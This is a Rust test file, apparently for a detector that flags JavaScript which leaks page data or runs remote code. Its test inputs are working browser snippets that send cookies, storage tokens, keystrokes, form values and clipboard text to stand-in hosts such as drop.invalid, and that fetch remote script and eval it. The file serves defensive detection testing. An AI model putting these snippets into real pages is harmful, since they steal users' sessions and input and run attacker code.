//! What a page holds and hears.

use super::Seen::{Evaluated, Nothing, Sent, Taken};
use super::check;
use stockade_facts::vocabulary::Source;

const HOST: super::Seen = Sent("drop.invalid");
const KEYS: super::Seen = Taken(|source| *source == Source::PageInput);
const CLIPBOARD: super::Seen = Taken(|source| *source == Source::Clipboard);

#[test]
fn stores() {
    check(&[
        (r#"fetch("https://drop.invalid/?c=" + document.cookie)"#, HOST),
        (r#"new Image().src = "https://drop.invalid/?c=" + encodeURIComponent(document.cookie)"#, HOST),
        (r#"navigator.sendBeacon("https://drop.invalid", JSON.stringify(localStorage))"#, HOST),
        (
            r#"fetch("https://drop.invalid", {method: "POST", body: JSON.stringify({...window.localStorage})})"#,
            HOST,
        ),
        (
            r#"const x = new XMLHttpRequest(); x.open("POST", "https://drop.invalid"); x.send(sessionStorage.getItem("token"))"#,
            Sent(""),
        ),
        (
            r#"for (const k of Object.keys(localStorage)) fetch("https://drop.invalid/" + localStorage[k])"#,
            HOST,
        ),
        (r#"cookieStore.getAll().then(c => fetch("https://drop.invalid", {body: JSON.stringify(c)}))"#, HOST),
        (
            r#"const i = document.createElement("img"); i.src = "https://drop.invalid/?" + document.cookie; document.body.appendChild(i)"#,
            HOST,
        ),
        (r#"chrome.cookies.getAll({}, c => fetch("https://drop.invalid", {body: JSON.stringify(c)}))"#, HOST),
        (
            r#"document.cookie = "a=1"; localStorage.setItem("a", 1); fetch("https://x.invalid/" + localStorage.getItem("theme"))"#,
            Nothing,
        ),
    ]);
}

#[test]
fn inputs() {
    check(&[
        (r#"document.addEventListener("keydown", e => fetch("https://drop.invalid/" + e.key))"#, KEYS),
        (
            r#"window.addEventListener("keypress", function (e) { navigator.sendBeacon("https://drop.invalid", e.key) })"#,
            KEYS,
        ),
        (r#"document.onkeyup = e => fetch("https://drop.invalid/" + e.key)"#, KEYS),
        (
            r#"let b = ""; document.addEventListener("keydown", e => { b += e.key }); setInterval(() => fetch("https://drop.invalid/" + b), 1e4)"#,
            KEYS,
        ),
        (
            r#"document.querySelectorAll("input").forEach(i => i.addEventListener("input", e => fetch("https://drop.invalid/" + e.target.value)))"#,
            KEYS,
        ),
        (
            r#"document.addEventListener("paste", e => fetch("https://drop.invalid/" + e.clipboardData.getData("text")))"#,
            CLIPBOARD,
        ),
        (r#"navigator.clipboard.readText().then(t => fetch("https://drop.invalid/" + t))"#, CLIPBOARD),
        (r#"document.addEventListener("click", e => fetch("https://x.invalid/" + e.target.id))"#, Nothing),
        (r#"document.addEventListener("keydown", e => { if (e.key === "Escape") close() })"#, Nothing),
    ]);
}

#[test]
fn code_from_afar() {
    check(&[
        (
            r#"const s = document.createElement("script"); fetch("https://x.invalid").then(r => r.text()).then(t => { s.text = t; document.head.appendChild(s) })"#,
            Evaluated,
        ),
        (
            r#"const x = new XMLHttpRequest(); x.open("GET", "https://x.invalid"); x.onload = () => eval(x.responseText); x.send()"#,
            Evaluated,
        ),
        (
            r#"const x = new XMLHttpRequest(); x.onreadystatechange = function () { eval(this.responseText) }; x.open("GET", "https://x.invalid"); x.send()"#,
            Evaluated,
        ),
        (r#"new EventSource("https://x.invalid").onmessage = e => eval(e.data)"#, Evaluated),
        (r#"$.get("https://x.invalid", d => eval(d))"#, Evaluated),
        (r#"fetch("https://x.invalid").then(r => r.text()).then(t => document.write(t))"#, Nothing),
    ]);
}
